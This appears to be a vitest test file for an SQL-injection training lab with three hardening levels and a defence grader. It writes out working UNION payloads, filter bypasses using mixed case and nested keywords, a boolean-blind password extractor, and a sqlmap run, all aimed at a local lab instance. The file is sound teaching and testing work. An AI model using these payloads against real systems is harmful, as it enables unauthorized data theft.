import { execFile, spawn, type ChildProcess } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { copyFile, mkdtemp, readFile, realpath, rm, writeFile } from 'node:fs/promises';
import { createRequire } from 'node:module';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import type { SendToLab } from '../src/graders/grader-types.js';
import { attackObjectivesMet, gradeSqliDefence, labAdminPassword } from '../src/graders/sqli.js';
import { sqliLabClient } from '../src/graders/sqli-lab-pages.js';

/*
 * The staff-directory lab run as the runner runs it (bare node under the permission model, listening on
 * LAB_PORT), but started here directly so that these tests depend on the lab alone.
 */

const APP_DIR = path.resolve(import.meta.dirname, '../apps/sqli');
const SQLMAP = '/usr/bin/sqlmap';
type Level = 'vulnerable' | 'naive' | 'correct';

interface RunningLab {
  port: number;
  dir: string;
  flag: string;
  send: SendToLab;
}

const children: ChildProcess[] = [];
const tempDirs: string[] = [];

afterAll(async () => {
  for (const child of children) if (child.exitCode === null) child.kill('SIGKILL');
  await Promise.all(tempDirs.map((dir) => rm(dir, { recursive: true, force: true })));
});

async function sqlJsDir(): Promise<string> {
  return realpath(path.dirname(createRequire(import.meta.url).resolve('sql.js/package.json')));
}

function freePort(): Promise<number> {
  return new Promise((resolve, reject) => {
    const server = createServer();
    server.once('error', reject);
    server.listen(0, '127.0.0.1', () => {
      const address = server.address();
      server.close(() =>
        typeof address === 'object' && address ? resolve(address.port) : reject(new Error('no port')),
      );
    });
  });
}

async function tempDir(prefix: string): Promise<string> {
  const dir = await mkdtemp(path.join(tmpdir(), prefix));
  tempDirs.push(dir);
  return dir;
}

function fetchSend(port: number): SendToLab {
  return async (req) => {
    const res = await fetch(`http://127.0.0.1:${port}${req.path}`, {
      method: req.method,
      headers: req.headers,
      body: req.body,
      signal: AbortSignal.timeout(30_000),
    });
    return { status: res.status, headers: Object.fromEntries(res.headers), body: await res.text() };
  };
}

/** A fresh instance of the lab at `level`, with the level's handler.mjs (or the learner's edit) as the runner does. */
async function startLab(level: Level, editedHandler?: string): Promise<RunningLab> {
  const dir = await tempDir(`cynex-sqli-${level}-`);
  const handlerFile = path.join(dir, 'handler.mjs');
  if (editedHandler === undefined) await copyFile(path.join(APP_DIR, 'levels', level, 'handler.mjs'), handlerFile);
  else await writeFile(handlerFile, editedHandler);
  const port = await freePort();
  const flag = `cynex{sqli-test-${randomUUID()}}`;
  const child = spawn(
    process.execPath,
    [
      '--experimental-permission',
      `--allow-fs-read=${APP_DIR}/`,
      `--allow-fs-read=${dir}/`,
      `--allow-fs-read=${await sqlJsDir()}/`,
      `--allow-fs-write=${dir}/`,
      '--max-old-space-size=64',
      path.join(APP_DIR, 'server.mjs'),
    ],
    {
      cwd: dir,
      env: { LAB_PORT: String(port), LAB_LEVEL: level, LAB_FLAG: flag, LAB_DIR: dir },
      stdio: ['ignore', 'ignore', 'pipe'],
    },
  );
  children.push(child);
  let stderr = '';
  child.stderr?.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
  for (let waited = 0; waited < 20_000; waited += 100) {
    if (child.exitCode !== null) throw new Error(`the lab exited with ${child.exitCode}: ${stderr}`);
    const healthy = await fetch(`http://127.0.0.1:${port}/healthz`).then(
      (res) => res.ok,
      () => false,
    );
    if (healthy) return { port, dir, flag, send: fetchSend(port) };
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
  throw new Error(`the lab did not become healthy: ${stderr}`);
}

async function readEvents(lab: RunningLab): Promise<{ type: string; objective: string; detail: string }[]> {
  const text = await readFile(path.join(lab.dir, 'events.jsonl'), 'utf8').catch(() => '');
  return text
    .split('\n')
    .filter(Boolean)
    .map((line) => JSON.parse(line));
}

async function searchBody(lab: RunningLab, q: string): Promise<{ status: number; body: string }> {
  const res = await lab.send({ method: 'GET', path: `/search?q=${encodeURIComponent(q)}` });
  return { status: res.status, body: res.body };
}

const READ_ACCOUNTS = "x' union select username, password, 1, 2, 3 from accounts--";
const READ_ACCOUNTS_PAST_FILTER = "x' UnIoN SELECT username, password, 1, 2, 3 FROM accounts/*";

describe('the SQL-injection lab (staff directory)', () => {
  it('answers in Japanese by default and in English on request, with no external resources', async () => {
    const lab = await startLab('correct');
    const ja = await lab.send({ method: 'GET', path: '/search?q=' });
    expect(ja.body).toContain('社員名簿');
    expect(ja.body).toContain('田中 太郎');
    const en = await lab.send({ method: 'GET', path: '/employee', headers: { 'accept-language': 'en-US,en;q=0.8' } });
    expect(en.body).toContain('Employee lookup');
    expect(ja.body + en.body).not.toMatch(/(src|href)="https?:/);
  });

  it('at vulnerable, a UNION through the name search reads the accounts, shows the flag and records the event', async () => {
    const lab = await startLab('vulnerable');
    const { status, body } = await searchBody(lab, READ_ACCOUNTS);
    expect(status).toBe(200);
    expect(body).toContain(lab.flag);
    expect(body).toContain(labAdminPassword(lab.flag));
    const events = await readEvents(lab);
    expect(events).toEqual([expect.objectContaining({ type: 'exploit', objective: 'sqli-union' })]);
    expect(attackObjectivesMet(events)).toEqual({ 'sqli-union': true, 'sqli-blind': false });
  });

  it('at naive, the filter stops the plain payload but mixed case gets past it', async () => {
    const lab = await startLab('naive');
    const blocked = await searchBody(lab, READ_ACCOUNTS);
    expect(blocked.body).not.toContain(lab.flag);
    expect(await readEvents(lab)).toEqual([]);
    const bypass = await searchBody(lab, READ_ACCOUNTS_PAST_FILTER);
    expect(bypass.body).toContain(lab.flag);
    const nested = await searchBody(lab, "x' uniunionon select username, password, 1, 2, 3 from accounts/*");
    expect(nested.body).toContain(lab.flag);
    expect(attackObjectivesMet(await readEvents(lab))['sqli-union']).toBe(true);
  });

  it('at correct, the payloads are searched for as names and reveal nothing', async () => {
    const lab = await startLab('correct');
    for (const q of [READ_ACCOUNTS, READ_ACCOUNTS_PAST_FILTER, "' OR 1=1--"]) {
      const { status, body } = await searchBody(lab, q);
      expect(status).toBe(200);
      expect(body).not.toContain(lab.flag);
      expect(body).toContain('data-rows="0"');
    }
    expect(await readEvents(lab)).toEqual([]);
  });

  it('the flag never shows for ordinary use, and a wrong admin password is refused', async () => {
    const lab = await startLab('vulnerable');
    for (const q of ['', '田中', "O'Brien"]) expect((await searchBody(lab, q)).body).not.toContain(lab.flag);
    const client = sqliLabClient(lab.send);
    expect(await client.login('admin', 'password')).toEqual({ status: 401, outcome: 'failed', flag: false });
    expect(await readEvents(lab)).toEqual([]);
  });

  it('at vulnerable, the admin password extracted character by character through the lookup signs in and reveals the flag', async () => {
    const lab = await startLab('vulnerable');
    const client = sqliLabClient(lab.send);
    const password = "(SELECT password FROM accounts WHERE username='admin')";
    const holds = async (condition: string) => (await client.lookup(`1 AND ${condition}`)).verdict === 'exists';
    /** The smallest n in [low, high] for which `expression > n` is false: a binary search on yes/no answers. */
    const valueOf = async (expression: string, low: number, high: number) => {
      while (low < high) {
        const mid = Math.floor((low + high) / 2);
        if (await holds(`${expression}>${mid}`)) low = mid + 1;
        else high = mid;
      }
      return low;
    };
    const length = await valueOf(`length(${password})`, 0, 64);
    let extracted = '';
    for (let i = 1; i <= length; i += 1) {
      extracted += String.fromCharCode(await valueOf(`unicode(substr(${password},${i},1))`, 32, 126));
    }
    expect(extracted).toBe(labAdminPassword(lab.flag));
    expect(await readEvents(lab)).toEqual([]);

    const signedIn = await client.login('admin', extracted);
    expect(signedIn).toEqual({ status: 200, outcome: 'ok', flag: true });
    expect(attackObjectivesMet(await readEvents(lab))).toEqual({ 'sqli-union': false, 'sqli-blind': true });
  });
});

describe('the lab with a learner edit that does not load', () => {
  it('still starts and shows why on every search', async () => {
    const lab = await startLab('correct', 'export function searchStaff(db, q) {\n  return db.exec(\n');
    const { status, body } = await searchBody(lab, 'Tanaka');
    expect(status).toBe(500);
    expect(body).toContain('handler.mjs did not load');
    const result = await gradeSqliDefence(lab.send);
    expect(result.passed).toBe(false);
  });
});

describe(gradeSqliDefence.name, () => {
  // String concatenation also breaks the search for O'Brien (the same quote that opens the injection), so that one
  // functional check fails wherever the query is concatenated; every other functional check passes at every level.
  it.each([
    ['vulnerable', false, ['search-apostrophe']],
    ['naive', false, ['search-apostrophe']],
    ['correct', true, []],
  ] as const)('at %s the defence passes: %s; failing functional checks: %j', async (level, passes, brokenFunctions) => {
    const lab = await startLab(level);
    const result = await gradeSqliDefence(lab.send, { adminPassword: labAdminPassword(lab.flag) });
    const failed = result.checks.filter((c) => !c.passed).map((c) => `${c.id}: ${c.detail}`);
    console.info(
      `grader at ${level}: ${failed.length} of ${result.checks.length} checks failed\n  ${failed.join('\n  ')}`,
    );
    expect(result.passed).toBe(passes);
    const functionChecks = result.checks.filter((c) => c.kind === 'function');
    expect(functionChecks.filter((c) => !c.passed).map((c) => c.id)).toEqual(brokenFunctions);
    expect(result.checks.some((c) => c.id === 'login-right-password')).toBe(true);
    if (level === 'naive') {
      const failing = result.checks.filter((c) => !c.passed).map((c) => c.id);
      expect(failing).toEqual(
        expect.arrayContaining(['union-mixed-case', 'union-nested-keyword', 'boolean-blind-lookup']),
      );
    }
  });
});

interface SqlmapRun {
  stdout: string;
  resultLines: string[];
}

/** Debian's sqlmap against one search URL, all of its traffic to 127.0.0.1. */
async function sqlmap(lab: RunningLab): Promise<SqlmapRun> {
  const outputDir = await tempDir('cynex-sqlmap-');
  const args = [
    '-u',
    `http://127.0.0.1:${lab.port}/search?q=Tanaka`,
    '-p',
    'q',
    '--batch',
    '--flush-session',
    `--output-dir=${outputDir}`,
    '--level=1',
    '--risk=1',
    '--technique=BEU',
    '--ignore-proxy',
    '--disable-coloring',
  ];
  const stdout = await new Promise<string>((resolve, reject) => {
    execFile(
      SQLMAP,
      args,
      { timeout: 180_000, maxBuffer: 16 * 1024 * 1024, env: { PATH: '/usr/bin:/bin', HOME: outputDir } },
      (err, out, errOut) =>
        err ? reject(new Error(`sqlmap failed: ${err.message}\n${out}\n${errOut}`)) : resolve(out),
    );
  });
  const resultLines = stdout
    .split('\n')
    .filter((line) => /injectable|Parameter: |Type: |Title: |injection point/.test(line))
    .map((line) => line.trim());
  return { stdout, resultLines };
}

describe('sqlmap against the lab', () => {
  it('finds the q parameter injectable at vulnerable', { timeout: 300_000 }, async () => {
    const lab = await startLab('vulnerable');
    const { stdout, resultLines } = await sqlmap(lab);
    console.info(`sqlmap at vulnerable:\n  ${resultLines.join('\n  ')}`);
    expect(stdout).toContain('sqlmap identified the following injection point(s)');
    expect(stdout).toMatch(/Parameter: q \(GET\)/);
  });

  it('finds nothing injectable at correct', { timeout: 300_000 }, async () => {
    const lab = await startLab('correct');
    const { stdout, resultLines } = await sqlmap(lab);
    console.info(`sqlmap at correct:\n  ${resultLines.join('\n  ')}`);
    expect(stdout).not.toContain('identified the following injection point');
    expect(stdout).toMatch(/all tested parameters do not appear to be injectable/);
    expect(await readEvents(lab)).toEqual([]);
  });
});
